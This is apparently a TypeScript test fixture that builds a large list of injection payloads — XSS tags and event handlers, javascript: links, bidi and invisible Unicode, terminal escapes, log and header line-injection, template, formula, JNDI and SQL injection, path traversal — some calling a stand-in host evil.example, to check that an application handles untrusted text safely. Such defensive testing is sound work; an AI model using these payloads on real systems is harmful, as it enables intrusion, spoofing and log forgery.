const RUN = 'window.__ran=1';

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'audio src=x',
  'video src=x',
  'iframe',
  'input autofocus',
  'details open',
];
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];
const handlers = elements.flatMap((element) => events.map((event) => `<${element} ${event}="${RUN}">`));
const html = [
  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
  '<object data="javascript:parent.__ran=1"></object>',
  '<embed src="javascript:parent.__ran=1">',
  '<form action="javascript:window.__ran=1"><button id=x>Play</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div>',
  '<a href="https://evil.example/" target="_blank">Play</a>',
  '<img src="https://evil.example/pixel.gif">',
  '<marquee>x</marquee>',
  '<plaintext>',
  '<!--',
  '<![CDATA[',
  '<h1>The call was deleted</h1>',
];
const links = [
  'javascript:window.__ran=1',
  'JaVaScRiPt:window.__ran=1',
  ' javascript:window.__ran=1',
  'java\tscript:window.__ran=1',
  'java\nscript:window.__ran=1',
  'java\r\nscript:window.__ran=1',
  '\u0001javascript:window.__ran=1',
  'javascript&colon;window.__ran=1',
  'javascript&#58;window.__ran=1',
  'javascript%3Awindow.__ran=1',
  'javascript://example.com/%0Awindow.__ran=1',
  'vbscript:msgbox(1)',
  'data:text/html,<script>parent.__ran=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https://evil.example/',
  '[Play](javascript:window.__ran=1)',
  '![x](https://evil.example/pixel.gif)',
  '<javascript:window.__ran=1>',
  '<https://evil.example/>',
  '[x]: javascript:window.__ran=1',
];
/** Marks, embeddings, overrides and isolates that change the direction of what follows; left open. */
const bidi = [
  '\u061c',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
];
const directions = [
  ...bidi.map((mark) => `Agent ${mark}reversed 123 abc`),
  ...bidi.map((mark) => `${mark}${mark}${mark}`),
  '\u202e\u2066\u2067\u202bgnp.exe',
  '\u202a'.repeat(130),
  '\u2067'.repeat(130),
  '\u05d0\u05d1\u05d2 abc \u0645\u0631\u062d\u0628\u0627',
];
const invisible = [
  ...[
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u034f',
    '\u180e',
    '\u2800',
    '\u3164',
    '\u115f',
  ].map((mark) => `Ad${mark}min ${mark.repeat(20)}`),
  `a${'\u0301'.repeat(200)}`,
  'x\u{e0041}\u{e0042}\u{e007f}',
  '\ufffe\uffff',
  '\ud800 lone',
  '\0 nul \0',
];
const ESC = '\u001b';
const terminal = [
  `${ESC}[2J${ESC}[H`,
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}[1A${ESC}[2K{"level":30}`,
  `${ESC}]0;title\u0007`,
  `${ESC}]2;title${ESC}\\`,
  `${ESC}]8;;https://evil.example/${ESC}\\Play${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;ZXZpbA==\u0007`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}_Gi=1${ESC}\\`,
  `${ESC}c`,
  `${ESC}[6n`,
  `${ESC}[?1049h`,
  '\u009b31mred',
  '\u009d0;title\u009c',
  '\u0007\u0007\u0007',
  '\b\b\b\b\b\b\b\b',
  '\u007f\u007f',
  '\u000e\u000f',
];
/** What would be a line of the log, the audit, the metrics or a header if a line break counted. */
const lines = [
  ...['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f', '\u001e'].flatMap((br) => [
    `x${br}{"level":30,"time":"2026-01-01T00:00:00.000Z","route":"/forged","status":200}`,
    `x${br}{"seq":999,"event":"view","who":{"subject":"forged"},"mac":"0"}`,
  ]),
  'x\ncallscope_http_requests_total{route="/forged"} 1',
  'x\r\nset-cookie: forged=1',
  'x\r\n\r\nHTTP/1.1 200 OK\r\n\r\nforged',
  'x","level":60,"forged":"1',
  "x'; drop table calls; --",
];
const templates = [
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must stay what it is.
  '${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above.
  '${jndi:ldap://evil.example/a}',
  '<%= 7*7 %>',
  '#{7*7}',
  '%s%s%n%x',
  '=HYPERLINK("https://evil.example/","x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '__proto__',
  'constructor',
  'toString',
  '../../etc/passwd',
  '..\\..\\windows',
  'expression(window.__ran=1)',
  'url(javascript:window.__ran=1)',
  '\\u003cimg src=x onerror=window.__ran=1\\u003e',
  "';window.__ran=1;//",
  '`;window.__ran=1;//',
  '");window.__ran=1;//',
];

/** Texts that do something where a text is taken for more than a text. */
export const INJECTIONS: readonly string[] = [
  ...scripts,
  ...handlers,
  ...html,
  ...links,
  ...directions,
  ...invisible,
  ...terminal,
  ...lines,
  ...templates,
];

/** The value with every text in it, but for those under the named keys, put in place of by `next`. */
export function withTexts(value: unknown, next: () => string, but: readonly string[] = []): unknown {
  if (typeof value === 'string') return next();
  if (Array.isArray(value)) return value.map((element) => withTexts(element, next, but));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, inner]) => [
      key,
      but.includes(key) ? inner : withTexts(inner, next, but),
    ]),
  );
}
